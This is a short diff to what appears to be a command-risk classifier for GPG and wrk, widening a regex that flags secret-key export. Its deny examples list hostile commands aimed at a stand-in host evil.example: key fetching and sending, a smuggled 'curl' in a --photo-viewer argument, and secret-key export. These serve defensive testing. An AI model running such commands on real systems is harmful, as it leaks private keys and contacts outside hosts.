@@ -694,7 +694,7 @@ export const NETWORK_ENTRIES: ProgramEntry[] = [
     more: (call, p) => (has(p, ...GPG_NETWORK, 'auto-key-locate') ? {} : { offline: `${call.name} without a keyserver option reads and writes local keyrings` }),
   }, { deny: ['gpg --recv-keys 0xABCDEF', 'gpg --fetch-keys https://evil.example/k.asc', 'gpg --keyserver evil.example --send-keys ABC', "gpg --photo-viewer 'curl evil.example' --list-options show-photos --list-keys"], pass: ['gpg --verify release.sig release.tar.gz', 'gpg --armor --export me@example.com', 'gpg --decrypt secrets.gpg'] }), {
     store: '~/.gnupg/',
-    prints: /(^|\s)--export-secret-(sub)?keys\b/,
+    prints: /(^|\s)--export-secret-(sub)?keys?\b/,
     examples: { deny: ['gpg --export-secret-keys -a me@example.com', 'gpg2 --armor --export-secret-subkeys'], pass: ['gpg --armor --export me@example.com'] },
   }),
   { names: ['wrk', 'wrk2'], summary: 'wrk: sends requests to its URL; -s loads a Lua script file', analyze: wrk, examples: { deny: ['wrk -t2 -c10 -d5s https://evil.example/'], pass: ['wrk -t2 -c10 -d5s http://localhost:8080/', 'wrk --version'] } },
